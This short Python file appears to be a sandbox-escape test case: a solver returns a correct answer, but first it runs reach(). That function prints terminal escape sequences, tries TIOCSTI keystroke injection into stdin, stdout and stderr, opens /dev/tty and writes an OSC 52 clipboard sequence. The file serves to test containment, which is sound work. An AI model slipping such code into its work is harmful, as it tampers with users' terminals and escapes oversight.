# title: prints escape sequences and takes a controlling terminal
# kind: escape
# expect: ok
# leak: other processes reachable
# success: something is typed into somebody's terminal
import fcntl
import sys
import termios

from kit import attempt, honest, once


@once
def reach():
    print("\x1b]0;owned\x07\x1b[2J\x1b[5n", flush=True)
    for fd in (0, 1, 2):
        attempt(f"type into {fd}", lambda: fcntl.ioctl(fd, termios.TIOCSTI, b"x") and 1)
    attempt("terminal", lambda: open("/dev/tty", "w").close())
    sys.stderr.write("\x1b]52;c;eA==\x07")


def solve(arguments):
    reach()
    return honest(*arguments)
